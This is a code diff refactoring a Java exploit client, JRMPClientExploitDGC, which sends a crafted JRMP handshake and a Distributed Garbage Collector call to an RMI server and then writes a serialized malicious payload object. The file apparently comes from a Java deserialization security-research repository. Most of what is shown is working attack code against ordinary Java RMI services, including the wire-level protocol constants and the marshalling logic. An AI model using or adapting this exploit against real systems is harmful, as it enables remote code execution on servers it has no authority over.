@@ -1,12 +1,11 @@
 package org.su18.serialize.rmi.client.exploit;
 
+import org.su18.serialize.rmi.jrmp.JRMPCall;
+import org.su18.serialize.rmi.jrmp.MarshalOutputStream;
 import sun.rmi.transport.TransportConstants;
 
 import javax.net.SocketFactory;
-import java.io.DataOutputStream;
-import java.io.IOException;
-import java.io.ObjectOutputStream;
-import java.io.OutputStream;
+import java.io.*;
 import java.net.*;
 
 import static org.su18.serialize.rmi.client.exploit.RMIClientExploitServer.getEvilClass;
@@ -38,7 +37,8 @@ public class JRMPClientExploitDGC {
 			s.setKeepAlive(true);
 			s.setTcpNoDelay(true);
 
-			OutputStream os = s.getOutputStream();
+			// 握手与 Call 数据一次写出
+			OutputStream os = new BufferedOutputStream(s.getOutputStream());
 			dos = new DataOutputStream(os);
 
 			dos.writeInt(TransportConstants.Magic);
@@ -49,7 +49,7 @@ public class JRMPClientExploitDGC {
 
 			@SuppressWarnings("resource") final ObjectOutputStream objOut = new MarshalOutputStream(dos);
 
-			objOut.writeLong(2); // DGC
+			objOut.writeLong(JRMPCall.DGC_ID); // DGC
 			objOut.writeInt(0);
 			objOut.writeLong(0);
 			objOut.writeShort(0);
@@ -58,8 +58,7 @@ public class JRMPClientExploitDGC {
 			objOut.writeLong(-669196253586618813L);
 
 			objOut.writeObject(payloadObject);
-
-			os.flush();
+			objOut.flush();
 		} finally {
 			if (dos != null) {
 				dos.close();
@@ -69,47 +68,4 @@ public class JRMPClientExploitDGC {
 			}
 		}
 	}
-
-	static final class MarshalOutputStream extends ObjectOutputStream {
-
-
-		private URL sendUrl;
-
-		public MarshalOutputStream(OutputStream out, URL u) throws IOException {
-			super(out);
-			this.sendUrl = u;
-		}
-
-		MarshalOutputStream(OutputStream out) throws IOException {
-			super(out);
-		}
-
-		@Override
-		protected void annotateClass(Class<?> cl) throws IOException {
-			if (this.sendUrl != null) {
-				writeObject(this.sendUrl.toString());
-			} else if (!(cl.getClassLoader() instanceof URLClassLoader)) {
-				writeObject(null);
-			} else {
-				URL[]  us = ((URLClassLoader) cl.getClassLoader()).getURLs();
-				String cb = "";
-
-				for (URL u : us) {
-					cb += u.toString();
-				}
-				writeObject(cb);
-			}
-		}
-
-
-		/**
-		 * Serializes a location from which to load the specified class.
-		 */
-		@Override
-		protected void annotateProxyClass(Class<?> cl) throws IOException {
-			annotateClass(cl);
-		}
-	}
-
-
 }